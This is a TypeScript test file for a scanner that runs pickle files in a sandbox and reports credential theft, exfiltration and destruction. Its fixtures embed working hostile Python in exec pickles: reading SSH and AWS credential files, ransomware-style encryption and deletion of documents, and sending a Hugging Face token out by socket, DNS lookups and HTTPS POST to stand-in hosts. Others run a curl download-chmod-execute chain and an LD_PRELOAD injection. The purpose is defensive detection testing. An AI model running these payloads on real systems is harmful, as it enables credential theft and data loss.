import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { ScanReport } from '../../src/core/schema.js';
import { attackChainsOf } from '../../src/core/attack-chains.js';
import { dynamicFindings, model, scan, scratch } from './support.js';

/** A protocol-0 pickle that has the source run, each time in a namespace of its own. Harmless addresses only (RFC 5737). */
async function running(name: string, source: string): Promise<ScanReport> {
  const path = join(scratch, `${name}.pkl`);
  const text = source.replace(/\\/g, '\\\\').replace(/\n/g, '\\n').replace(/'/g, "\\'");
  await writeFile(path, `c__builtin__\nexec\n(S'${text}'\n(dtR.`);
  return scan(path);
}

function told(report: ScanReport, rule: string): string {
  return dynamicFindings(report)
    .filter((finding) => finding.rule === rule)
    .map(({ explanation }) => explanation)
    .join('\n');
}

describe('touching a canary names what would have been stolen', () => {
  it('an SSH key', async () => {
    const report = await scan(model('hostile', 'reads-ssh-key.pkl'));
    expect(report.verdict).toBe('malicious');
    expect(told(report, 'DYN-CRED-SSH')).toContain(
      'opens /home/model/.ssh/id_rsa for reading. It worked. What it got is a canary of this scan: an SSH private key.',
    );
    expect(told(report, 'DYN-THEFT-PROOF')).toBe('');
  });

  it('whatever link leads there', async () => {
    const report = await running(
      'through-link',
      "import os\nos.symlink(os.path.expanduser('~/.aws'), '/tmp/a')\nopen('/tmp/a/credentials').read()",
    );
    expect(told(report, 'DYN-LINK-ESCAPE')).toContain('/tmp/a');
    expect(told(report, 'DYN-CRED-TOKEN')).toContain('a canary of this scan: AWS access keys.');
  });

  it('documents that are locked for ransom', async () => {
    const report = await running(
      'ransom',
      "import glob, os\nfor f in glob.glob(os.path.expanduser('~/Documents/*.*')):\n  d = open(f, 'rb').read()\n  open(f + '.locked', 'wb').write(bytes(b ^ 7 for b in d))\n  os.remove(f)",
    );
    expect(told(report, 'DYN-DESTROY-DOCUMENTS')).toMatch(/personal document number [3-9]/);
  });
});

describe('proof of theft says what was taken, where it went and how', () => {
  const token = "t = open(os.path.expanduser('~/.cache/huggingface/token')).read()\n";

  it('sent to an address', async () => {
    const report = await running(
      'sends-token',
      `import os, socket\n${token}s = socket.socket()\ns.connect(('203.0.113.7', 443))\ns.sendall(t.encode())`,
    );
    expect(told(report, 'DYN-THEFT-PROOF')).toMatch(
      /takes a Hugging Face token \(\/home\/model\/\.cache\/huggingface\/token\), a canary of this scan, and sends it to 203\.0\.113\.7 port 443, as it is\./,
    );
    expect(report.conversations).toContainEqual(
      expect.objectContaining({
        address: '203.0.113.7',
        port: 443,
        sent: expect.stringMatching(/^hf_\w{34}$/) as string,
      }),
    );
  });

  it('in the environment, in Base64, to a command', async () => {
    const report = await running(
      'hands-key-on',
      "import os, base64\nos.system('echo ' + base64.b64encode(os.environ['AWS_SECRET_ACCESS_KEY'].encode()).decode())",
    );
    expect(told(report, 'DYN-THEFT-PROOF')).toMatch(
      /takes the environment variable AWS_SECRET_ACCESS_KEY, a canary of this scan, and hands it to a program: .*, in Base64\./,
    );
  });

  it('in names that are looked up, in pieces', async () => {
    const report = await running(
      'asks-for-token',
      `import os, socket\n${token}h = t.encode().hex()\nfor i in range(0, len(h), 20):\n  try: socket.getaddrinfo(h[i:i + 20] + '.t.example.com', 80)\n  except OSError: pass`,
    );
    expect(told(report, 'DYN-THEFT-PROOF')).toMatch(
      /asks for the name [0-9a-f]+\.t\.example\.com.*in hexadecimal digits/,
    );
  });

  it('inside TLS, which the trace does not show and the sandbox’s network does', async () => {
    const report = await running(
      'posts-token',
      `import os, urllib.request\n${token}urllib.request.urlopen('https://collect.example.com/', t.encode()).read()`,
    );
    expect(told(report, 'DYN-THEFT-PROOF')).toMatch(
      /takes a Hugging Face token .* and sends it to .* port 443, as it is\./,
    );
  });
});

describe('a story', () => {
  it('tells shell, download, permissions and start in order', async () => {
    const report = await running(
      'stages',
      "import os\nos.system('curl -s -o /tmp/s http://203.0.113.7/stage2.sh; chmod +x /tmp/s; sh /tmp/s')",
    );
    const [story] = attackChainsOf(report.findings);
    expect(story).toMatchObject({ severity: 'critical', title: 'Fetches a program from the network and runs it' });
    const steps = story?.steps.map(({ findings }) => findings[0]?.rule) ?? [];
    const order = ['DYN-EXEC-FETCH', 'DYN-NET-CONTACT', 'DYN-PERM-EXECUTABLE', 'DYN-EXEC-DOWNLOADED'];
    expect(
      steps.filter((rule) => order.includes(rule ?? '')).filter((rule, at, all) => all.indexOf(rule) === at),
    ).toEqual(order);
  });

  it('shows a library that is slipped into a program by its environment', async () => {
    const report = await running(
      'preloads',
      "import os\nos.execve('/usr/bin/id', ['id'], {'LD_PRELOAD': '/tmp/x.so'})",
    );
    expect(told(report, 'DYN-EXEC-PRELOAD')).toContain('/usr/bin/id');
  });
});
